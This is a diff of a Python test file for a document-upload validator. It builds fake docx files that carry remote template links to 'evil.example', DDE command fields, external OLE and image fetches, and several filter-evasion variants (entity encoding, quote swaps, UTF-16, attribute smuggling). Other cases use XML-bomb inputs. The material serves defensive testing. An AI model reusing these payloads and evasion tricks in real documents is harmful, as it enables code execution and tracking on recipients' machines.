@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import io
 import struct
+import time
 import zipfile
 import zlib
 from pathlib import Path
@@ -39,7 +40,25 @@ def zipped(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> 
     return out.getvalue()
 
 
-WORD = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
+MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>'
+
+
+def body(paragraph: str, prefix: str = "w") -> bytes:
+    """A part of a docx; `paragraph` has the prefix w."""
+    whole = f'<w:document xmlns:w="{MAIN}"><w:body><w:p>{paragraph}</w:p></w:body></w:document>'
+    return whole.replace("w:", f"{prefix}:").replace("xmlns:w=", f"xmlns:{prefix}=").encode()
+
+
+def link(kind: str = "oleObject", target: str = "https://evil.example/x.dotm", mode: str = "External") -> str:
+    return (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
+    )
+
+
+WORD = {"[Content_Types].xml": (TYPES % "").encode(), "word/document.xml": body("")}
 OFD_PARTS = {"OFD.xml": b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>', "Doc_0/Document.xml": b"<x/>"}
 
 
@@ -102,13 +121,24 @@ def test_a_locked_pdf_is_reported_as_locked() -> None:
         code_of(out.getvalue())
 
 
+SETTINGS, DOCUMENT = "word/_rels/settings.xml.rels", "word/_rels/document.xml.rels"
+
+
 @pytest.mark.parametrize(
     "more",
     [
         {"word/vbaProject.bin": b"x"},
         {"word/activeX/activeX1.xml": b"x"},
-        {"[Content_Types].xml": b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"'},
-        {"word/_rels/settings.xml.rels": b'<R Type="a/attachedTemplate" Target="http://x" TargetMode="External"/>'},
+        {"[Content_Types].xml": (TYPES % '<Override ContentType="a/macro&#69;nabled+xml"/>').encode()},
+        {SETTINGS: link("attachedTemplate").encode()},
+        {SETTINGS: link("attachedTemplate").replace('"', "'").encode()},
+        {SETTINGS: link("attachedTemplate").replace("=", " \n= ").encode()},
+        {SETTINGS: link("attachedTemplate").encode("utf-16")},
+        {SETTINGS: link("attached&#84;emplate").encode()},
+        {SETTINGS.replace("settings", "Settings"): link("attachedTemplate").encode()},
+        {SETTINGS: link("attachedTemplate", mode="External&quot; x=&quot;").encode()},
+        {SETTINGS: link("attachedTemplate", mode='External" targetmode="Internal').encode()},
+        {DOCUMENT: link("vbaProject", "code.dat", "Internal").encode()},
     ],
 )
 def test_a_document_with_macros_is_refused(more: dict[str, bytes]) -> None:
@@ -205,8 +235,9 @@ def test_a_cut_off_picture_and_a_pdf_have_no_preview(tmp_path: Path) -> None:
         preview(file, PDF)
 
 
-FIELD = b'<w:p><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x "y"</w:instrText></w:r></w:p>'
-LINK = b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="file:///x" TargetMode="External"/>'
+FIELD = '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x "y"</w:instrText></w:r>'
+SIMPLE = '<w:fldSimple w:instr=" DDE cmd x"/>'
+OVERRIDE = '<Override PartName="/word/notes.dat" ContentType="application/vnd.x.footnotes+xml"/>'
 
 
 @pytest.mark.parametrize(
@@ -214,9 +245,17 @@ LINK = b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/20
     [
         {"word/embeddings/oleObject1.bin": b"x"},
         {"word/embeddings/a.docm": b"x"},
-        {"word/document.xml": FIELD},
-        {"word/header1.xml": b'<w:fldSimple w:instr=" DDE cmd x"/>'},
-        {"word/_rels/document.xml.rels": LINK},
+        {"word/document.xml": body(FIELD)},
+        {"word/document.xml": body(FIELD.replace(" DDE", "&#68;DE"))},
+        {"word/document.xml": body(FIELD, prefix="x")},
+        {"word/document2.xml": body(FIELD)},
+        {"word/notes.dat": body(FIELD), "[Content_Types].xml": (TYPES % OVERRIDE).encode()},
+        {"word/header1.xml": body(SIMPLE)},
+        {"word/header1.xml": body(SIMPLE.replace('"', "'"))},
+        {DOCUMENT: link().encode()},
+        {DOCUMENT: link().replace('"', "'").encode()},
+        {DOCUMENT: link("oleObject", "a.dat", "Internal").encode()},
+        {DOCUMENT: link("aFChunk", "a.mht", "Internal").encode()},
     ],
 )
 def test_a_document_with_an_attached_program_is_refused(more: dict[str, bytes]) -> None:
@@ -225,12 +264,60 @@ def test_a_document_with_an_attached_program_is_refused(more: dict[str, bytes]) 
 
 
 @pytest.mark.parametrize(
+    "relation",
+    [
+        link("image", "https://evil.example/pixel.png"),
+        link("image", "file://evil.example/share/pixel.png"),
+        link("image", "https://evil.example/pixel.png", "Internal"),
+        link("image", "//evil.example/pixel.png", "Internal"),
+        link("settings", "https://evil.example/settings.xml"),
+    ],
+)
+def test_a_document_that_fetches_something_is_refused(relation: str) -> None:
+    with pytest.raises(BadInput, match="from elsewhere when it is opened"):
+        code_of(zipped(WORD | {"word/_rels/header1.xml.rels": relation.encode()}))
+
+
+@pytest.mark.parametrize(
     "more",
     [
         {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"x", "word/media/image1.png": b"x"},
-        {"word/document.xml": "<w:t>DDE AUTO 是一种字段</w:t><w:instrText> PAGE </w:instrText>".encode()},
-        {"word/_rels/document.xml.rels": LINK.replace(b"/oleObject", b"/hyperlink")},
+        {"word/document.xml": body("<w:t>DDE AUTO 是一种字段</w:t><w:instrText> PAGE </w:instrText>")},
+        {"word/document.xml": body('<w:instrText> HYPERLINK "https://example.cn/dde/add" </w:instrText>')},
+        {DOCUMENT: link("hyperlink").encode()},
+        {DOCUMENT: link("image", "media/image1.png", "Internal").encode()},
     ],
 )
 def test_a_document_with_a_sheet_a_picture_or_a_link_is_taken(more: dict[str, bytes]) -> None:
     assert code_of(zipped(WORD | more)) == "docx"
+
+
+@pytest.mark.parametrize(
+    "more",
+    [
+        {"word/_rels/a.rels": b"<" * 90_000},
+        {"word/_rels/a.rels": b'frame"' * 100_000},
+        {SETTINGS: b"attachedTemplate" * 60_000},
+        {"word/document.xml": b"<w:instrText" * 60_000},
+        {"word/document.xml": b'<!DOCTYPE a [<!ENTITY e "DDE c">]>' + body(FIELD.replace("DDE", "&e;"))},
+        {"word/document.xml": b"<?xml version='1.0' encoding='utf-7'?>" + body("")},
+        {"Word/Document.xml": body(FIELD)},
+        {"word/document.xml": b"<a>" + b"".join(b"<b>%d</b>" % n for n in range(6_000_000)) + b"</a>"},
+    ],
+)
+def test_a_document_that_cannot_be_read_through_is_refused_soon(more: dict[str, bytes]) -> None:
+    began = time.monotonic()
+    with pytest.raises(BadInput):
+        code_of(zipped(WORD | more))
+    assert time.monotonic() - began < 15  # most of it packing the last one
+
+
+def test_a_document_packed_in_a_way_of_its_own_is_refused() -> None:
+    with pytest.raises(BadInput, match="packed in a way"):
+        code_of(zipped(WORD, zipfile.ZIP_LZMA))
+
+
+def test_an_ofd_whose_entry_is_something_else_is_refused() -> None:
+    for entry in (b"<a><OFD/></a>", b"<!-- <OFD > -->" + b"<b/>"):
+        with pytest.raises(BadInput, match="something else"):
+            code_of(zipped(OFD_PARTS | {"OFD.xml": entry}))
